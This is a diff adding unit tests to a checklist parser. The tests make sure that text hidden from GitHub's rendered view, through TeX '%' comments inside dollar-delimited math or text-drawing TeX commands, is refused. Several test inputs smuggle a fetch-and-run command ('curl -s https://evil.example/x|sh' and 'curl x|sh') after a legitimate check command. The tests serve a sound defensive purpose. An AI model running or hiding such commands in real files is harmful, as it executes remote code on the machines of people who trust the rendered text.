@@ -420,6 +420,32 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     expect(parseOk(lines('```', '$\\phantom{x}$', '```', '- [ ] G1: t', '  CHECK: x', '  EXPECT: y')).gates).toHaveLength(1);
   });
 
+  // Found by attack round 7: '%' starts a TeX comment inside GitHub math (nothing after it on
+  // the line is drawn), and \mbox, \hbox, \verb draw text as \text does.
+  it('a "%" inside a pair of $ that GitHub renders as math, on one line or across a paragraph', () => {
+    const percent = /^2: "%" inside \$…\$ at column \d+: GitHub renders the dollar pair as math, where "%" starts a TeX comment/;
+    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $% ;curl -s https://evil.example/x|sh;sh verify.sh||$', '  EXPECT: ok'))[0]).toMatch(percent);
+    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $`% ;curl x|sh`$', '  EXPECT: ok'))[0]).toMatch(percent);
+    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh v.sh $x %;curl x|sh', '  EXPECT: ok$'))[0]).toMatch(percent);
+    expect(parseErrors(lines('- [ ] B: reviewed $$', '  CHECK: sh v.sh %;curl x|sh', '  EXPECT: x $$'))[0]).toMatch(percent);
+    expect(parseErrors(lines('- [ ] A: t $a % hidden$', '  EVIDENCE: pending'))[0]).toMatch(/^1: "%" inside/);
+    // Not math: a '%' outside any pair, a pair that never closes, a closing '$' after a blank or
+    // before a digit, an escaped '\%' or '\$', a shell's $$, and a pair cut by a blank line.
+    for (const check of ['test "$(date +%Y)" = 2026', 'echo $A; printf %s $B', "printf '%s\\n' $x", 'echo $$ %d', 'echo $a \\% b$', 'echo \\$a % b$', 'echo $a % $5', 'printf %s "$HOME"']) {
+      expect(parseOk(lines('- [ ] G1: t', `  CHECK: ${check}`, '  EXPECT: x')).gates, check).toHaveLength(1);
+    }
+    expect(parseOk(lines('- [ ] A: costs $5 %', '  EVIDENCE: pending', '', '- [ ] B: then x$', '  EVIDENCE: pending')).gates).toHaveLength(2);
+    expect(parseOk(lines('```', '$a % b$', '```', '- [ ] G1: t', '  CHECK: x', '  EXPECT: y')).gates).toHaveLength(1);
+  });
+
+  it('TeX commands that draw text as \\text does (\\mbox, \\hbox, \\verb, {\\rm …}) or shrink and overlap it', () => {
+    for (const cmd of ['\\mbox{CHE}\\mbox{CK: x}', '\\hbox{EXP}', '\\verb!CHE!', '{\\rm CHECK: x}', '\\mmlToken{mi}{x}', '\\Space{-9em}{0}{0}', '\\Tiny x', '\\negthickspace', '\\overset{a}{b}']) {
+      expect(parseErrors(lines('- [ ] B: release notes reviewed', `  $${cmd}$`, '  EVIDENCE: pending'))[0], cmd).toMatch(/^2: TeX command/);
+    }
+    // A regex's \b, \s, \d, \w before letters are not these commands.
+    expect(parseOk(lines('- [ ] G1: t', '  CHECK: x', '  EXPECT: /\\bfail\\s+\\d+ \\items \\rmdir/')).gates).toHaveLength(1);
+  });
+
   it('raw HTML anywhere outside fences and block comments', () => {
     for (const l of ['- [ ] G1: a <b class="x">y</b>', '- [ ] G1: a <span>x</span>', '- [ ] G1: a <span title="x">', '- [ ] G1: a </div>', '- [ ] G1: <?php x ?>', '- [ ] G1: <!DOCTYPE x>', '- [ ] G1: <![CDATA[ x ]]>', '- [ ] G1: <details', '- [ ] G1: a <!-- b -->']) {
       expect(parseErrors(lines(l, '  EVIDENCE: pending'))[0], l).toMatch(/^1: .*(raw HTML|HTML (comment|processing|declaration|CDATA))/);
